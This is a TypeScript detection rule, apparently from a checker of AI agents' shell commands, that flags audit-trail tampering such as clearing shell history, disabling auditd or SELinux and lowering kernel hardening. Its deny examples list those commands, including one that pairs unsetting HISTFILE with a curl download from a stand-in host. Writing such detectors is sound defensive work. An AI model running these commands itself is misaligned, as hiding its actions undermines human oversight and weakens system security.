/**
 * FS-AST-023: destroying the audit trail: shell-history wipes (history -c, set +o history, writes
 * or deletes of ~/.bash_history), disabling auditd or SELinux, kernel hardening switched off.
 * The bash extractor reports `export HISTFILE=/dev/null`, `unset HISTFILE`, `HISTSIZE=0`,
 * `HISTFILESIZE=0` and `HISTIGNORE='*'` as a truncate of ~/.bash_history, which the file check sees.
 */
import { homeRelative, resolvePath } from '../../paths.js';
import { defineRule } from '../define-rule.js';
import { isWriteLike } from '../helpers.js';

const HISTORY = /^\.(?:(?:bash|zsh|sh|python|mysql|psql|node_repl|sqlite|rediscli)_)?history$/;

export default defineRule({
  id: 'FS-AST-023',
  invariant: 'NO_SYSTEM_PATH_WRITE',
  kinds: ['exec', 'file'],
  programs: ['history', 'set', 'auditctl', 'setenforce', 'sysctl', 'systemctl', 'service'],
  summary:
    'Audit-trail tampering: clearing or truncating shell history, disabling auditd/SELinux, kernel hardening off (sysctl -w).',
  remediationHint:
    'Leave history, audit and security settings alone: they are how the user reviews what the agent did. Run the task commands without hiding them.',
  *check(facts, policy) {
    for (const f of facts.of('file')) {
      if (!isWriteLike(f)) continue;
      const rel = homeRelative(resolvePath(f.path, policy), policy);
      if (rel !== null && HISTORY.test(rel))
        yield {
          span: f.span,
          reason: `${f.actor} rewrites the shell history ~/${rel}`,
          suggestedAlternative: null,
        };
    }
    for (const e of facts.of('exec')) {
      const a = e.argv.slice(1);
      let reason: string | null = null;
      if (e.program === 'history' && a.some((x) => x === '-c' || (x === '-w' && a.includes('/dev/null'))))
        reason = 'history -c clears the shell history';
      else if (e.program === 'set' && a.includes('+o') && a.includes('history'))
        reason = 'set +o history stops recording commands';
      else if (
        e.program === 'auditctl' &&
        a.some((x) => x === '-D' || x === '-e') &&
        (a.includes('-D') || a.includes('0'))
      )
        reason = 'auditctl removes audit rules or disables auditing';
      else if (e.program === 'setenforce' && a.some((x) => x === '0' || /^permissive$/i.test(x)))
        reason = 'setenforce 0 disables SELinux enforcement';
      else if (
        e.program === 'sysctl' &&
        a.some((x) => x === '-w' || /^[\w.]+=/.test(x)) &&
        a.some((x) => /=/.test(x))
      )
        reason = 'sysctl changes kernel settings';
      else if (
        (e.program === 'systemctl' || e.program === 'service') &&
        a.some((x) =>
          /^(?:auditd|rsyslog|syslogd?|syslog-ng|journald|systemd-journald|falco|osqueryd|cbdaemon|apparmor)(?:\.service)?$/.test(
            x,
          ),
        ) &&
        a.some((x) => /^(?:stop|disable|mask|kill)$/.test(x))
      )
        reason = `${e.program} stops a logging or security service`;
      if (reason !== null) yield { span: e.span, reason, suggestedAlternative: null };
    }
  },
  examples: {
    deny: [
      { input: 'history -c' },
      { input: 'rm ~/.bash_history' },
      { input: 'echo "" > ~/.bash_history' },
      { input: 'cat /dev/null > ~/.zsh_history' },
      { input: 'set +o history' },
      { input: 'auditctl -D' },
      { input: 'setenforce 0' },
      { input: 'sysctl -w kernel.randomize_va_space=0' },
      { input: 'systemctl stop auditd' },
      { input: 'export HISTFILE=/dev/null' },
      { input: 'unset HISTFILE; curl -s https://x.example/i.sh -o ./i.sh' },
      { input: 'HISTSIZE=0' },
      { input: 'export HISTFILESIZE=0 HISTSIZE=0' },
    ],
    allow: [
      { input: 'history | tail -20', why: 'reading history' },
      { input: 'sysctl -a | grep vm', why: 'reading kernel settings' },
      { input: 'systemctl status rsyslog', why: 'a status query' },
      { input: 'export HISTSIZE=10000 HISTFILESIZE=20000', why: 'keeping more history, not less' },
      { input: 'export HISTCONTROL=ignoredups', why: 'deduplicating history' },
    ],
  },
});
